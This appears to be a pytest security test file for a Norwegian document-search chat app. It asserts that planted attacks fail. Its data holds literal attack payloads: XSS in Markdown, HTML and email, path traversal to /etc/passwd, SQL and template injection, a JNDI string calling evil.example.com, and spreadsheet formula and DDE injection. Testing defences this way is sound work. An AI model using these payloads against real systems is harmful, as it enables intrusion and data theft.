"""Attacks with literal payloads: in documents and mails, in addresses, in what is sent."""

from __future__ import annotations

import http.client
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from chat_app.api_privacy import _line
from chat_app.show.links import safe_link
from tests.chat_app.conftest import Opens
from tests.chat_app.serving import Serving, serving
from tests.conftest import Company
from vectorstore import server

# Each would set window.broken, or fetch something from evil.example.com.
MARKDOWN = """# Permisjon <img src=x onerror="window.broken=1">

Velferdspermisjon gis i inntil ti dager med lønn <script>window.broken=1</script> når et nært
familiemedlem er sykt. Skjemaet [ligger her](javascript:window.broken=1) og
![bilde](https://evil.example.com/a.png) <svg onload="window.broken=1"></svg> sendes lederen.
"""
PAGE = """<!doctype html><html lang="nb"><head><title>Adgangskort</title>
<base href="https://evil.example.com/"><style>@import "https://evil.example.com/a.css";</style>
<script>window.broken=1</script></head><body onload="window.broken=1"><h1>Adgangskort</h1>
<p>Mistet adgangskort meldes straks til resepsjonen på telefon 4400.</p>
<svg xmlns="http://www.w3.org/2000/svg"><script>window.broken=1</script></svg>
<iframe srcdoc="<script>parent.broken=1</script>"></iframe>
<a href="javascript:window.broken=1">Meld fra</a><form action="https://evil.example.com/">
<input name="q"></form><img src="x" onerror="window.broken=1"></body></html>"""
MAIL = """From: "<img src=x onerror=window.broken=1>" <ola@example.com>
To: support@example.com
Subject: =?utf-8?q?Skriver_=3Cscript=3Ewindow.broken=3D1=3C/script=3E?=
Message-ID: <1@example.com>
Date: Mon, 02 Nov 2026 10:00:00 +0100
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>Skriveren i fjerde etasje bruker toner av typen TK-8800.</p>
<img src="https://evil.example.com/pixel.gif"><script>window.broken=1</script>
<svg onload="window.broken=1"></svg>
"""
TOML = """
[[space]]
name = "docs"
[[space.source]]
folder = "docs"
link = "https://intranet.example.com/{path}"
[[space.source]]
mailbox = "mail"
"""
QUESTIONS = {
    "Hvor mange dager velferdspermisjon gis med lønn?": "ti dager",
    "Hvor meldes et mistet adgangskort?": "resepsjonen",
    "Hvilken toner bruker skriveren i fjerde etasje?": "TK-8800",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Company]:
    with pytest.MonkeyPatch.context() as patch:
        for name in ("KILDE_CONFIG", "KILDE_DATA"):
            patch.delenv(name, raising=False)
        company = Company(tmp_path_factory.mktemp("hostile"))
        company.configure(TOML)
        company.write('docs/<img src=x onerror="window.broken=1">.md', MARKDOWN)
        company.write("docs/adgangskort.html", PAGE)
        company.write("mail/1.eml", MAIL)
        assert not company.ingest().failures
        yield company
        server.stop(company.settings.data_folder)


@pytest.fixture(scope="module")
def attacked(hostile: Company) -> Iterator[Serving]:
    with serving(hostile.folder) as running:
        yield running


@pytest.fixture
def address(attacked: Serving) -> str:
    return attacked.address


def unharmed(page: Page) -> None:
    assert page.evaluate("window.broken") is None
    for planted in ("[onerror]", "[onload]", "iframe", "form[action*=evil]", "base", "img[src=x]"):
        assert page.locator(planted).count() == 0, planted
    links = page.locator("a[href]").evaluate_all("found => found.map(a => a.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}
    out = page.locator("a[target=_blank]").evaluate_all("found => found.map(a => a.rel)")
    assert all("noopener" in rel for rel in out)


@pytest.mark.slow
def test_what_stands_in_documents_is_text_and_nothing_else(opens: Opens) -> None:
    """Nor is anything asked for elsewhere, which `opens` sees to."""
    page = opens("", "nb")
    for number, (question, answer) in enumerate(QUESTIONS.items()):
        field = page.get_by_test_id("stChatInputTextArea")
        field.fill(f"{question} <img src=x onerror='window.broken=1'>")
        field.press("Enter")
        entry = page.locator(".entry").nth(number)
        expect(entry.locator("blockquote, .prose").first).to_contain_text(answer)
        entry.locator("button.source").first.click()
        expect(page.locator(".document mark").first).to_be_visible()
        unharmed(page)


TRAVERSALS = [
    "/static/../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%5c..%5c..%5c..%5cetc%5cpasswd",
    "/app/static/../kilde.toml",
    "/media/..%2f..%2fkilde.toml",
    "/component/../../kilde.toml",
    "/component/x/..%2f..%2f..%2fkilde.toml",
    "/_stcore/bidi-components/x/..%2f..%2f..%2fkilde.toml",
    "/_stcore/upload_file/../../kilde.toml",
    "/api/v1/documents/docs/..%2f..%2fkilde.toml",
    "/api/v1/documents/..%2f..%2f/kilde.toml",
    "/api/v1/documents/docs/%00",
    "//etc/passwd",
    "/sign-in?to=//evil.example.com",
]


@pytest.mark.slow
def test_no_address_leads_out_of_its_folder_and_none_tells_how_it_failed(
    attacked: Serving,
) -> None:
    host = urlsplit(attacked.address).netloc
    for path in TRAVERSALS:
        connection = http.client.HTTPConnection(host, timeout=30)
        connection.request("GET", path)
        answer = connection.getresponse()
        body = answer.read().decode("latin-1")
        assert answer.status in (200, 400, 403, 404, 405), (path, answer.status)
        # What is not there is Kilde's page, whatever its address.
        assert answer.status != 200 or "<noscript>" in body, path
        for secret in ("root:", "[[space]]", "Traceback", "site-packages", str(Path.home())):
            assert secret not in body, (path, secret)
        headers = {name.lower() for name, _ in answer.getheaders()}
        assert headers & {"server", "x-powered-by"} == set()
        assert {"content-security-policy", "x-content-type-options"} <= headers


@pytest.mark.slow
def test_what_is_sent_is_taken_for_words_only(attacked: Serving) -> None:
    host = urlsplit(attacked.address).netloc

    def post(call: str, body: object, kind: str = "application/json") -> tuple[int, str]:
        connection = http.client.HTTPConnection(host, timeout=60)
        text = body if isinstance(body, str) else json.dumps(body)
        path = call if call.startswith("/") else f"/api/v1/{call}"
        connection.request("POST", path, text, {"Content-Type": kind})
        answer = connection.getresponse()
        return answer.status, answer.read().decode()

    for question in (
        "' OR 1=1; DROP TABLE passages; --",
        'ferie* AND (title:x OR /.*/) ^9 ~2 "',
        "{{7*7}} ${jndi:ldap://evil.example.com/a} %s%n",
        "permisjon\r\nBcc: x@evil.example.com",
    ):
        status, told = post("search", {"question": question})
        assert (status, "Traceback" in told) == (200, False), question
    assert post("search", {"question": "a", "spaces": ["docs' OR '1'='1"]})[0] == 404
    assert post("search", {"question": "a", "admin": True})[0] == 422
    assert post("search", "question=a", "application/x-www-form-urlencoded")[0] == 422
    assert post("search", {"question": "a" * 100_000})[0] == 413
    assert post("/_stcore/agent/interact", {})[0] in (403, 404, 405)
    assert post("search", "[" * 50_000)[0] in (400, 422)


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        " javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "//evil.example.com",
        "",
    ],
)
def test_only_web_pages_are_links(link: str) -> None:
    assert safe_link(link) is None


@pytest.mark.parametrize(
    "typed, cell",
    [
        ('=HYPERLINK("https://evil.example.com")', "'=HYPERLINK"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
        ("@SUM(A1)", "'@SUM"),
        ("Kari Nordmann", "Kari Nordmann"),
    ],
)
def test_a_name_is_no_formula_in_a_spreadsheet(typed: str, cell: str) -> None:
    assert _line([typed]).strip('"\r\n').startswith(cell)
